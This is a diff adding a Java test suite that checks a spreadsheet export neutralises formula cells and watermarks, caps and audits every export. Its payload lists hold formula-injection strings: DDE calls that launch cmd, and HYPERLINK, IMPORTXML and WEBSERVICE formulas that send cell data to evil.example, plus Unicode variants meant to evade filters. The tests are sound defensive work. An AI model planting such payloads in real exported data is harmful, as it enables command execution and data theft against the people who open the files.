@@ -1,0 +1,236 @@
+package org.fengqiao.access;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Locale;
+import java.util.concurrent.atomic.AtomicInteger;
+import org.dhatim.fastexcel.reader.Cell;
+import org.dhatim.fastexcel.reader.CellType;
+import org.dhatim.fastexcel.reader.ReadableWorkbook;
+import org.dhatim.fastexcel.reader.Row;
+import org.fengqiao.group.AddGroup;
+import org.fengqiao.group.GroupFacts;
+import org.fengqiao.matter.NewMatter;
+import org.fengqiao.matter.OpenMatter;
+import org.fengqiao.matter.Way;
+import org.fengqiao.people.KeepResident;
+import org.fengqiao.people.NewResident;
+import org.fengqiao.shared.Page;
+import org.fengqiao.shared.PageKey;
+import org.fengqiao.shared.Place;
+import org.fengqiao.town.EveryRow;
+import org.fengqiao.town.InTheHouse;
+import org.fengqiao.town.Town;
+import org.fengqiao.town.Visitor;
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.web.server.LocalServerPort;
+import org.springframework.mock.web.MockHttpServletResponse;
+
+/** U3 and U5: what is taken along cannot run, says who took it, has an end, and leaves a line in the audit trail. */
+@InTheHouse
+class U3_FormulaCellsTest {
+
+    private static final List<String> BEGINNINGS = List.of(
+            "=",
+            "+",
+            "-",
+            "@",
+            "＝",
+            "＋",
+            "－",
+            "＠",
+            "﹦",
+            "﹢",
+            "﹣",
+            "﹫",
+            "−",
+            "\t=",
+            "\r=",
+            "\n=",
+            " =",
+            "\u00A0=",
+            "\u3000=",
+            "\uFEFF=",
+            "\u200B=",
+            "\u0000=",
+            "\u202E=",
+            "\"=",
+            "\t",
+            "\r",
+            "\n",
+            "\u200B\u3000＝",
+            " \t-",
+            "\u2060@");
+
+    private static final List<String> ENDINGS = List.of(
+            "1+1",
+            "cmd|' /C calc'!A0",
+            "HYPERLINK(\"http://evil.example/?\"&A1,\"看\")",
+            "SUM(1+9)*cmd|' /C calc'!A0",
+            "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+            "WEBSERVICE(\"http://evil.example\")",
+            "DDE(\"cmd\";\"/C calc\";\"x\")",
+            "1",
+            "",
+            "A1",
+            "0",
+            "IMAGE(\"http://evil.example/x.png\")",
+            "FILTERXML(A1,\"//x\")",
+            "@SUM(1)",
+            "ＳＵＭ（１）",
+            "R[1]C[1]",
+            "'!A1");
+
+    @LocalServerPort
+    int port;
+
+    @Autowired
+    Town town;
+
+    @Autowired
+    TakeAlong takeAlong;
+
+    @Autowired
+    OpenMatter openMatter;
+
+    @Autowired
+    KeepResident keepResident;
+
+    @Autowired
+    AddGroup addGroup;
+
+    @Autowired
+    EveryRow rows;
+
+    private static List<String> strings() {
+        List<String> all = new ArrayList<>();
+        for (String beginning : BEGINNINGS) {
+            for (String ending : ENDINGS) {
+                all.add(beginning + ending);
+            }
+        }
+        return all;
+    }
+
+    private static List<Row> read(byte[] file) {
+        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(file))) {
+            return book.getFirstSheet().read();
+        } catch (IOException e) {
+            throw new java.io.UncheckedIOException(e);
+        }
+    }
+
+    private byte[] taken(SignedIn who, TakeAlong.Lines<String> lines) {
+        MockHttpServletResponse response = new MockHttpServletResponse();
+        TakeAlong.Table<String> table = new TakeAlong.Table<>(
+                "strings", "groups.title", List.of(new TakeAlong.Column<>("groups.table.name", 20, row -> row)), lines);
+        town.as(who, () -> {
+            try {
+                takeAlong.send(response, who, table, Locale.SIMPLIFIED_CHINESE);
+                return true;
+            } catch (IOException e) {
+                throw new java.io.UncheckedIOException(e);
+            }
+        });
+        return response.getContentAsByteArray();
+    }
+
+    @Test
+    void nothingThatBeginsLikeAFormulaIsOneWhenItIsReadAgain() {
+        List<String> strings = strings();
+        assertThat(strings).hasSizeGreaterThanOrEqualTo(500);
+        AtomicInteger read = new AtomicInteger();
+
+        List<Row> rows = read(taken(
+                town.zheng,
+                (after, size) -> Page.of(
+                        strings.subList(read.get(), Math.min(strings.size(), read.addAndGet(size) + 1)),
+                        size,
+                        row -> PageKey.of(read.get()))));
+
+        assertThat(rows).hasSizeGreaterThan(strings.size());
+        for (Row row : rows.subList(1, strings.size() + 1)) {
+            Cell cell = row.getCell(0);
+            assertThat(cell.getType()).isEqualTo(CellType.STRING);
+            assertThat(cell.getFormula()).isNull();
+            assertThat(cell.getText()).startsWith("'");
+        }
+    }
+
+    @Test
+    void whatIsHarmlessStaysAsItIs() {
+        for (String text : List.of("", "楼道灯不亮", "3号楼-2单元", "a=b", "王*", "（2026）QSZ-000001", "（电话）", "\"说\"", "100%")) {
+            assertThat(TakeAlong.harmless(text)).isEqualTo(text);
+        }
+    }
+
+    @Test
+    void everyListThatCanBeTakenIsDisarmedMarkedAndAudited() {
+        town.as(town.chen, () -> {
+            openMatter.open(
+                    NewMatter.of(town.qingshi, "LEAD", "=1+1+甲", Way.DESK).at(Place.of("＋甲路")), Town.actor(town.chen));
+            keepResident.keep(town.qingshi, NewResident.of("@甲", null).living("-甲路1号"));
+            return addGroup.add(town.qingshi, GroupFacts.of("=甲群", "＝甲片"));
+        });
+        Visitor chen = Visitor.signedIn(port, town.chen);
+        for (String list : List.of("matters", "residents", "groups")) {
+            long before = rows.count("audit.line where what = 'list.taken' and about = ?", "list/" + list);
+
+            var file = chen.fetch("/" + list + ".xlsx");
+
+            assertThat(file.statusCode()).as(list).isEqualTo(200);
+            assertThat(file.headers().firstValue("Content-Disposition").orElse(""))
+                    .startsWith("attachment; filename=\"" + list);
+            assertThat(file.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
+            List<Row> lines = read(file.body());
+            assertThat(lines.getLast().getCellText(0)).contains("陈晓岚", "chen", "仅限工作使用");
+            assertThat(lines.stream()
+                            .flatMap(Row::stream)
+                            .filter(java.util.Objects::nonNull)
+                            .map(Cell::getFormula))
+                    .as(list)
+                    .containsOnlyNulls();
+            assertThat(lines.stream()
+                            .flatMap(Row::stream)
+                            .filter(cell -> cell != null && cell.getType() == CellType.STRING)
+                            .map(Cell::getText)
+                            .filter(text -> text.contains("甲") && text.startsWith("'")))
+                    .as(list + " has what was disarmed")
+                    .isNotEmpty();
+            assertThat(rows.count("audit.line where what = 'list.taken' and about = ?", "list/" + list))
+                    .isEqualTo(before + 1);
+        }
+    }
+
+    @Test
+    void noRoleTakesMoreThanItMayAtOnce() {
+        for (SignedIn who : List.of(town.li, town.chen)) {
+            int most = TakeAlong.mostLines(who.role());
+            AtomicInteger asked = new AtomicInteger();
+
+            List<Row> lines = read(taken(who, (after, size) -> {
+                asked.addAndGet(size);
+                return Page.of(java.util.Collections.nCopies(size + 1, "行"), size, row -> PageKey.of(asked.get()));
+            }));
+
+            assertThat(asked).hasValue(most);
+            assertThat(lines).hasSize(1 + most + 2);
+            assertThat(lines.get(most + 1).getCellText(0))
+                    .contains(Integer.toString(most).substring(0, 1), "还有更多");
+        }
+        assertThat(TakeAlong.mostLines(town.li.role())).isLessThan(TakeAlong.mostLines(town.zheng.role()));
+    }
+
+    @Test
+    void whoMayNotTakeAListAlongGetsNone() {
+        Visitor liu = Visitor.signedIn(port, town.liu);
+        for (String list : List.of("matters", "residents", "groups")) {
+            assertThat(liu.see("/" + list + ".xlsx").statusCode()).as(list).isEqualTo(403);
+        }
+    }
+}
